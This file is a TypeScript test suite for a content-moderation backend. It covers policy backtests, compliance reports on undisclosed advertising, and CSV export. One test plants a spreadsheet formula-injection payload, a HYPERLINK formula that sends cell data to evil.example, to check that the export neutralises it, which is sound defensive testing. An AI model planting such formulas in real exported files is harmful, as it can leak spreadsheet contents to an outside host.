import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import request from 'supertest';
import type { TrustApp } from '../../api/app';
import { createTestDb, type TestDb } from '../support/testDb';
import { bearerFor, createStaff, fixedClock } from '../support/testApp';
import type { JobQueue } from '../../api/jobs/jobQueue';
import { startTestJobs } from '../support/testJobs';
import { buildEvaluator, loadBrands, loadLists } from '../../api/policies/policyRuntime';
import { seedDemo } from '../support/demoSeed';
import { judgePostsPure } from '../../api/policies/judge';
import { storedPost } from '../../api/policies/dryRun';
import type { PolicyDocument } from '../../rules/policy/document';
import { createTrustApp } from '../support/trustApp';
import { createHash } from 'node:crypto';
import { runBacktest } from '../../api/backtests/runBacktest';

let t: TestDb;
let app: TrustApp;
let jobs: JobQueue;
let manager: { Authorization: string };
let compliance: { Authorization: string };
const now = new Date('2026-11-25T10:00:00Z');
const clock = fixedClock(now);

beforeAll(async () => {
  t = await createTestDb();
  await seedDemo(t.db, now);
  const staff = await createStaff(t.db);
  jobs = await startTestJobs(t, clock);
  app = createTrustApp(t.db, { clock, jobs });
  manager = await bearerFor(app, staff.community_manager.email);
  compliance = await bearerFor(app, staff.compliance.email);
}, 120_000);
afterAll(() => t.close());

async function waitFor(id: number) {
  for (let i = 0; i < 240; i++) {
    const res = await request(app).get(`/api/backtests/${id}`).set(manager).expect(200);
    if (res.body.status === 'done' || res.body.status === 'failed') return res.body;
    await new Promise((r) => setTimeout(r, 250));
  }
  throw new Error('backtest did not finish');
}

describe('backtests', () => {
  // Up to a minute waiting for the job (waitFor), then every post judged live one by one: more than the default time when loaded.
  it('runs a draft over stored posts as a job, with progress, matching what live judging says item by item', async () => {
    const policy = await t.db('policies').where({ name: 'Contact harvesting' }).first();
    const draft: PolicyDocument = structuredClone(policy.draft);
    // Stricter than the version in force: any contact handle at all.
    draft.rules[1]!.conditions = { all: [{ fact: 'contactCount', operator: 'greaterThan', value: 0 }] };
    const from = new Date(now.getTime() - 30 * 86_400_000);
    const started = await request(app)
      .post('/api/backtests')
      .set(manager)
      .send({ policyId: policy.id, document: draft, from: from.toISOString(), to: now.toISOString() })
      .expect(202);
    expect(started.body.status).toBe('queued');
    const done = await waitFor(started.body.id);
    expect(done.status).toBe('done');
    expect(done.processed).toBe(done.total);
    const result = done.result;

    // The same posts, judged one by one with live (SQL) context: the backtest must agree exactly.
    const ids = (await t.db('posts').where('posted_at', '>=', from).andWhere('posted_at', '<', now).orderBy('id').select('id')).map(
      (r: { id: number }) => r.id,
    );
    expect(result.items).toBe(ids.length);
    const lists = await loadLists(t.db);
    const brands = await loadBrands(t.db);
    const published = await t.db('policy_versions').where({ id: policy.published_version_id }).first();
    const as = (doc: PolicyDocument) => ({
      lists,
      brands,
      policies: [{ policyId: 0, versionId: 0, name: 'x', mode: 'enforce' as const, evaluator: buildEvaluator(doc, lists) }],
    });
    const perRule = new Map<string, number>();
    let newly = 0;
    let gone = 0;
    for (let i = 0; i < ids.length; i += 400) {
      const subjects = await Promise.all(ids.slice(i, i + 400).map((id) => storedPost(t.db, id)));
      const live = await judgePostsPure(t.db, as(draft), subjects as never, undefined);
      const livePublished = await judgePostsPure(t.db, as(published.document), subjects as never, undefined);
      live.forEach((j, k) => {
        for (const h of j.hits) perRule.set(h.rule, (perRule.get(h.rule) ?? 0) + 1);
        const a = j.hits.length > 0;
        const b = livePublished[k]!.hits.length > 0;
        if (a && !b) newly++;
        if (!a && b) gone++;
      });
    }
    for (const r of result.draft.rules) expect(r.matches, r.rule).toBe(perRule.get(r.rule) ?? 0);
    expect(result.diff.newlyMatched).toBe(newly);
    expect(result.diff.noLongerMatched).toBe(gone);
    expect(newly).toBeGreaterThan(0);
    expect(result.byDay.reduce((s: number, d: { items: number }) => s + d.items, 0)).toBe(ids.length);
    // Moderators' decisions: the draft catches contact harvesting they upheld.
    expect(result.decisions.caughtUpheld).toBeGreaterThan(0);
    expect(result.decisions.caughtUpheld + result.decisions.missedUpheld).toBe(result.decisions.upheld);
    const audit = await t.db('audit_log').where({ action: 'backtest.start' }).first();
    expect(audit.detail.backtestId).toBe(started.body.id);
  }, 120_000);

  // Up to a minute waiting for the job (waitFor), then every post judged live one by one: more than the default time when loaded.
  it('agrees with live judging on the board facts (last 24 hours’ commercial share, threshold)', async () => {
    const policy = await t.db('policies').where({ name: 'Contact harvesting' }).first();
    const draft: PolicyDocument = {
      rules: [
        {
          name: 'board-somewhat-commercial',
          conditions: { all: [{ fact: 'boardCommercialShare24h', operator: 'greaterThan', value: 0.04 }] },
          event: { type: 'label', params: { label: 'commercial' } },
        },
        {
          name: 'board-over-threshold',
          conditions: { all: [{ fact: 'boardOverThreshold', operator: 'equal', value: true }] },
          event: { type: 'label', params: { label: 'ad' } },
        },
        {
          name: 'quiet-board',
          conditions: { all: [{ fact: 'boardPosts24h', operator: 'lessThan', value: 5 }] },
          event: { type: 'label', params: { label: 'sensitive' } },
        },
      ],
    };
    const from = new Date(now.getTime() - 20 * 86_400_000);
    const started = await request(app)
      .post('/api/backtests')
      .set(manager)
      .send({ policyId: policy.id, document: draft, from: from.toISOString(), to: now.toISOString() });
    expect(started.status, JSON.stringify(started.body)).toBe(202);
    const done = await waitFor(started.body.id);
    expect(done.status).toBe('done');
    const ids = (await t.db('posts').where('posted_at', '>=', from).andWhere('posted_at', '<', now).orderBy('id').select('id')).map(
      (r: { id: number }) => r.id,
    );
    const lists = await loadLists(t.db);
    const brands = await loadBrands(t.db);
    const as = {
      lists,
      brands,
      policies: [{ policyId: 0, versionId: 0, name: 'x', mode: 'enforce' as const, evaluator: buildEvaluator(draft, lists) }],
    };
    const perRule = new Map<string, number>();
    for (let i = 0; i < ids.length; i += 400) {
      const subjects = await Promise.all(ids.slice(i, i + 400).map((id) => storedPost(t.db, id)));
      for (const j of await judgePostsPure(t.db, as, subjects as never, undefined))
        for (const h of j.hits) perRule.set(h.rule, (perRule.get(h.rule) ?? 0) + 1);
    }
    for (const r of done.result.draft.rules) expect(r.matches, r.rule).toBe(perRule.get(r.rule) ?? 0);
    // Each rule matches something and not everything, so the comparison says something.
    for (const rule of ['board-somewhat-commercial', 'board-over-threshold', 'quiet-board']) {
      expect(perRule.get(rule) ?? 0, rule).toBeGreaterThan(0);
      expect(perRule.get(rule) ?? 0, rule).toBeLessThan(ids.length);
    }
  }, 120_000);

  it('gives the same result judged in worker threads as in its own thread, pages counted in order', async () => {
    const policy = await t.db('policies').where({ name: 'Contact harvesting' }).first();
    const draft: PolicyDocument = structuredClone(policy.draft);
    draft.rules[1]!.conditions = { all: [{ fact: 'contactCount', operator: 'greaterThan', value: 0 }] };
    const spec = {
      subject: 'post' as const,
      document: draft,
      compareWith: policy.draft as PolicyDocument,
      from: new Date(now.getTime() - 30 * 86_400_000),
      to: now,
    };
    const seen: Array<[number, number]> = [];
    const inThread = await runBacktest(t.db, spec, async () => undefined, { workers: 0 });
    const inWorkers = await runBacktest(t.db, spec, async (done, total) => void seen.push([done, total]), {
      workers: 2,
      workerMinPosts: 0,
      // Small pages, so that both workers hold pages at once.
      pageSize: 40,
    });
    expect(inThread.items).toBeGreaterThan(0);
    expect(inThread.diff!.newlyMatched).toBeGreaterThan(0);
    expect(inWorkers).toEqual(inThread);
    // Progress only grows and ends at the total.
    expect(seen.map(([d]) => d)).toEqual([...seen.map(([d]) => d)].sort((a, b) => a - b));
    expect(seen.length).toBeGreaterThan(10);
    expect(seen[seen.length - 1]).toEqual([inThread.items, inThread.items]);
  });

  it('backtests order policies too', async () => {
    const policy = await t.db('policies').where({ name: 'New account, high-value order' }).first();
    const started = await request(app)
      .post('/api/backtests')
      .set(manager)
      .send({ policyId: policy.id, from: '2026-09-01T00:00:00Z', to: now.toISOString() })
      .expect(202);
    const done = await waitFor(started.body.id);
    expect(done.status).toBe('done');
    expect(done.result.items).toBe(
      Number(
        (await t
          .db('transactions')
          .where('ordered_at', '>=', new Date('2026-09-01T00:00:00Z'))
          .andWhere('ordered_at', '<', now)
          .count({ c: '*' })
          .first())!.c,
      ),
    );
    expect(done.result.draft.rules.find((r: { rule: string }) => r.rule === 'new-buyer-large-order').matches).toBeGreaterThan(0);
    // The draft is the version in force: nothing changes.
    expect(done.result.diff).toMatchObject({ newlyMatched: 0, noLongerMatched: 0 });
  });

  it('refuses bad requests without queueing anything', async () => {
    const before = Number((await t.db('backtests').count({ c: '*' }).first())!.c);
    const policy = await t.db('policies').first('id');
    const reversed = await request(app)
      .post('/api/backtests')
      .set(manager)
      .send({ policyId: policy.id, from: now.toISOString(), to: '2026-01-01T00:00:00Z' })
      .expect(400);
    expect(reversed.body.errors[0].path).toBe('to');
    const unknown = await request(app)
      .post('/api/backtests')
      .set(manager)
      .send({ policyId: 999999, from: '2026-01-01T00:00:00Z', to: now.toISOString() })
      .expect(400);
    expect(unknown.body.errors[0].path).toBe('policyId');
    const badDoc = await request(app)
      .post('/api/backtests')
      .set(manager)
      .send({ policyId: policy.id, document: { rules: [{ name: 'x' }] }, from: '2026-01-01T00:00:00Z', to: now.toISOString() })
      .expect(400);
    expect(badDoc.body.errors[0].path).toMatch(/^document\.rules\[0\]/);
    expect(Number((await t.db('backtests').count({ c: '*' }).first())!.c)).toBe(before);
  });
});

describe('compliance reports', () => {
  async function finished(id: number) {
    for (let i = 0; i < 240; i++) {
      const res = await request(app).get(`/api/compliance-reports/${id}`).set(compliance).expect(200);
      if (res.body.status === 'done' || res.body.status === 'failed') return res.body;
      await new Promise((r) => setTimeout(r, 250));
    }
    throw new Error('report did not finish');
  }

  it('counts posts by disclosure verdict and lists each undisclosed one with evidence and a tamper-evident snapshot', async () => {
    const queued = await request(app)
      .post('/api/compliance-reports')
      .set(compliance)
      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() })
      .expect(202);
    const done = await finished(queued.body.id);
    expect(done.status).toBe('done');
    const r = done.result;
    expect(r.counts.posts).toBe(done.total);
    expect(done.processed).toBe(done.total);
    expect(r.counts.commercial).toBe(r.counts.disclosed + r.counts.weaklyDisclosed + r.counts.undisclosed);
    expect(r.counts.posts).toBe(r.counts.commercial + r.counts.notCommercial);
    expect(r.cases).toHaveLength(r.counts.undisclosed);
    expect(r.counts.undisclosed).toBeGreaterThan(5);
    for (const c of r.cases) {
      const stored = await t.db('posts').where({ id: c.postId }).first('title', 'body');
      const text = stored.title ? `${stored.title}\n${stored.body}` : stored.body;
      expect(c.textSha256).toBe(createHash('sha256').update(text).digest('hex'));
      expect(c.evidence.length).toBeGreaterThan(0);
    }
    const orders = Number(
      (await t
        .db('transactions')
        .where('referral_undisclosed', true)
        .whereIn(
          'referral_post_id',
          r.cases.map((c: { postId: number }) => c.postId),
        )
        .count({ c: '*' })
        .first())!.c,
    );
    expect(r.counts.ordersFromUndisclosed).toBe(orders);
    const reaches = r.cases.map((c: { reach: number }) => c.reach);
    expect(reaches).toEqual([...reaches].sort((a, b) => b - a));
    const audit = await t
      .db('audit_log')
      .where({ action: 'compliance_report.create', subject_id: String(queued.body.id) })
      .first();
    expect(audit.detail).toMatchObject({ brandId: null });

    const csv = await request(app).get(`/api/compliance-reports/${queued.body.id}/csv`).set(compliance).expect(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv; charset=utf-8/);
    expect(csv.text.charCodeAt(0)).toBe(0xfeff);
    expect(csv.text.split('\n')[0]).toContain('post_id,platform,platform_id,author,brands,reach');
    expect(csv.text).toMatch(/[\u4e00-\u9fff]/);
  });

  it('neutralises an author handle and a post text that start like a spreadsheet formula in the CSV', async () => {
    const post = await t.db('posts').where({ disclosure_status: 'undisclosed' }).orderBy('reach', 'desc').first();
    const author = await t.db('accounts').where({ id: post.author_id }).first('handle');
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"open")';
    await t.db('accounts').where({ id: post.author_id }).update({ handle: formula });
    await t
      .db('posts')
      .where({ id: post.id })
      .update({ title: null, body: `${formula} 真心推荐` });
    try {
      const queued = await request(app)
        .post('/api/compliance-reports')
        .set(compliance)
        .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() })
        .expect(202);
      expect((await finished(queued.body.id)).status).toBe('done');
      const csv = await request(app).get(`/api/compliance-reports/${queued.body.id}/csv`).set(compliance).expect(200);
      const [header, ...rows] = parseCsv(csv.text.replace(/^\ufeff/, '')) as string[][];
      const row = rows.find((r) => r[header!.indexOf('post_id')] === String(post.id))!;
      expect(row[header!.indexOf('author')]).toBe(`'${formula}`);
      expect(row[header!.indexOf('text')]).toBe(`'${formula} 真心推荐`);
      expect(rows.flat().some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
    } finally {
      await t.db('accounts').where({ id: post.author_id }).update({ handle: author.handle });
      await t.db('posts').where({ id: post.id }).update({ title: post.title, body: post.body });
    }
  });

  it('narrows to one brand', async () => {
    const brand = await t.db('accounts').where({ type: 'brand', external_id: 'b-soundjoy' }).first();
    const queued = await request(app)
      .post('/api/compliance-reports')
      .set(compliance)
      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString(), brandId: brand.id })
      .expect(202);
    const done = await finished(queued.body.id);
    for (const c of done.result.cases) expect(c.brands).toEqual(['soundjoy']);
    expect(done.result.filters.brand).toBe('soundjoy');
    expect(done.result.counts.posts).toBeLessThan(done.total);
    expect(done.result.counts.posts).toBeGreaterThan(0);
  });

  it('refuses bad requests and other roles, writing nothing', async () => {
    const before = Number((await t.db('compliance_reports').count({ c: '*' }).first())!.c);
    const bad = await request(app)
      .post('/api/compliance-reports')
      .set(compliance)
      .send({ from: now.toISOString(), to: '2026-01-01T00:00:00Z', brandId: 999999 })
      .expect(400);
    expect(bad.body.errors.map((e: { path: string }) => e.path)).toContain('to');
    const notBrand = await t.db('accounts').where({ type: 'member' }).first('id');
    const wrong = await request(app)
      .post('/api/compliance-reports')
      .set(compliance)
      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString(), brandId: notBrand.id })
      .expect(400);
    expect(wrong.body.errors[0].path).toBe('brandId');
    await request(app)
      .post('/api/compliance-reports')
      .set(manager)
      .send({ from: '2026-09-01T00:00:00Z', to: now.toISOString() })
      .expect(403);
    expect(Number((await t.db('compliance_reports').count({ c: '*' }).first())!.c)).toBe(before);
  });
});
